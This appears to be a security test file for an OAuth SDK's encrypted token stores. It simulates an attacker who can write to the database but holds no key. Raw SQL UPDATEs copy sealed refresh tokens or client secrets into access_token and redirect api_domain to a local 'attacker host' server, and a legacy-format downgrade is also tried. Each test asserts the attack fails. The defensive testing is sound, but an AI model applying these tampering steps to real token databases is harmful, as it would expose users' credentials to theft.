// Someone who can write to the backend but has no key, against a real session: the emulator as
// the accounts server, a real HTTP server as the attacker's host, raw UPDATEs on the SQLite file.
import { randomBytes } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import Database from 'better-sqlite3'
import { afterEach, describe, expect, it } from 'vitest'
import {
  FileStore,
  Initializer,
  OAuthToken,
  UserSignature,
  type TokenStore,
} from '../../src/index.ts'
import { SQLiteStore } from '../../src/stores/sqlite.ts'
import { startAccountsEmulator, type AccountsEmulator } from '../../src/testing/index.ts'
import { scratchDir, scratchPath } from '../helpers/common.ts'
import { sealTk1 } from '../helpers/backends.ts'

const dir = scratchDir()
const encryption = { keys: { k1: randomBytes(32) }, activeKeyId: 'k1' }
const closers: (() => Promise<void>)[] = []
afterEach(async () => {
  await Promise.all(closers.splice(0).map((close) => close()))
})

/** The attacker's host: answers 200 to everything and keeps what it was sent. */
async function attackerHost(): Promise<{ url: string; received: string[] }> {
  const received: string[] = []
  const server: Server = createServer((request, response) => {
    received.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`)
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"data":[]}')
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  closers.push(() => new Promise((done) => server.close(() => done())))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, received }
}

/** A user signed in through the emulator, with the token kept in `store`. */
async function signedIn(store: TokenStore) {
  const emulator: AccountsEmulator = await startAccountsEmulator({
    users: [{ email: 'ada@zylker.example' }],
  })
  closers.push(() => emulator.close())
  const client = emulator.clients[0]!
  const session = await Initializer.initialize({
    environment: emulator.environment,
    store,
    token: new OAuthToken({
      clientId: client.clientId,
      clientSecret: client.clientSecret,
      grantToken: emulator.issueGrantCode({ user: 'ada@zylker.example' }),
      redirectUrl: 'http://127.0.0.1/callback',
      userSignature: new UserSignature('ada@zylker.example'),
    }),
  })
  const stored = (await store.findTokenById(session.id!))!
  const reopen = (other: TokenStore) =>
    Initializer.initialize({
      environment: emulator.environment,
      store: other,
      token: new OAuthToken({ id: session.id! }),
    })
  return { emulator, id: session.id!, stored, reopen }
}

/** What happened when the session was opened again and used: its outcome, by error code. */
async function outcome(work: () => Promise<unknown>): Promise<string> {
  return work().then(
    () => 'done',
    (err: unknown) => (err as { code?: string }).code ?? String(err),
  )
}

describe('write access to the backend, without the key', () => {
  for (const [copied, column] of [
    ['refresh token', 'refresh_token'],
    ['client secret', 'client_secret'],
  ] as const) {
    it(`cannot make the next fetch send the ${copied} to another host`, async () => {
      const path = scratchPath(dir, 'exfiltrate.db')
      const { id, stored, reopen } = await signedIn(new SQLiteStore({ path, encryption }))
      const attacker = await attackerHost()
      // The raw UPDATE of the finding: the sealed secret copied into access_token, the API
      // domain pointed at the attacker's host.
      const db = new Database(path)
      db.prepare(`UPDATE oauthtoken SET access_token = ${column}, api_domain = ? WHERE id = ?`).run(
        attacker.url,
        id,
      )
      db.close()

      const result = await outcome(async () => {
        const session = await reopen(new SQLiteStore({ path, encryption }))
        await session.fetch('/crm/v8/Leads')
      })
      const secret = column === 'refresh_token' ? stored.refreshToken! : stored.clientSecret!
      expect(attacker.received.filter((line) => line.includes(secret))).toEqual([])
      expect(attacker.received).toEqual([])
      expect(result).toBe('ENCRYPTION_ERROR')
    })
  }

  it('cannot plant values of an old tk1 copy once legacy rows are refused', async () => {
    const path = scratchPath(dir, 'downgrade.db')
    const strict = { ...encryption, acceptLegacyRows: false }
    const { id, stored, reopen } = await signedIn(new SQLiteStore({ path, encryption: strict }))
    const attacker = await attackerHost()
    // The refresh token as a backup taken under the first format holds it (tk1 values are bound
    // to nothing), copied into access_token, and no row seal: only a legacy row can look so.
    const old = sealTk1(encryption.keys.k1, 'k1', stored.refreshToken!)
    const db = new Database(path)
    db.prepare(
      'UPDATE oauthtoken SET access_token = ?, refresh_token = ?, api_domain = ? WHERE id = ?',
    ).run(old, old, attacker.url, id)
    db.close()
    const result = await outcome(async () => {
      const session = await reopen(new SQLiteStore({ path, encryption: strict }))
      await session.fetch('/crm/v8/Leads')
    })
    expect(result).toBe('ENCRYPTION_ERROR')
    expect(attacker.received).toEqual([])
  })
})

describe('a store opened without keys, on sealed rows', () => {
  for (const kind of ['SQLiteStore', 'FileStore'] as const) {
    it(`${kind}: revoke neither reports success nor deletes the row, and the token stays usable`, async () => {
      const path = scratchPath(dir, kind === 'FileStore' ? 'tokens.txt' : 'tokens.db')
      const open = (keys?: typeof encryption): TokenStore =>
        kind === 'FileStore'
          ? new FileStore({ path, encryption: keys })
          : new SQLiteStore({ path, encryption: keys })
      const { emulator, id, stored, reopen } = await signedIn(open(encryption))
      const result = await outcome(async () => {
        const session = await reopen(open())
        await session.revoke()
      })
      expect(result).toBe('ENCRYPTION_ERROR')
      expect(emulator.counts.revoke).toBe(0)
      expect(emulator.isValid(stored.refreshToken!)).toBe(true)
      // The row is still there, and the user goes on with the keys.
      const session = await reopen(open(encryption))
      expect((await session.fetch('/crm/v8/Leads')).status).toBe(200)
      expect((await open(encryption).findTokenById(id))?.refreshToken).toBe(stored.refreshToken)
    })
  }

  it('a keyless writer does not store the user in the clear over their sealed row', async () => {
    const path = scratchPath(dir, 'writer.db')
    const { id, stored } = await signedIn(new SQLiteStore({ path, encryption }))
    const keyless = new SQLiteStore({ path })
    const plain = new OAuthToken({
      userSignature: new UserSignature('ada@zylker.example'),
      accessToken: 'a-new-access-token-in-the-clear',
      refreshToken: 'a-new-refresh-token-in-the-clear',
    })
    expect(await outcome(() => keyless.saveToken(plain))).toBe('ENCRYPTION_ERROR')
    expect((await new SQLiteStore({ path, encryption }).findTokenById(id))?.refreshToken).toBe(
      stored.refreshToken,
    )
  })
})
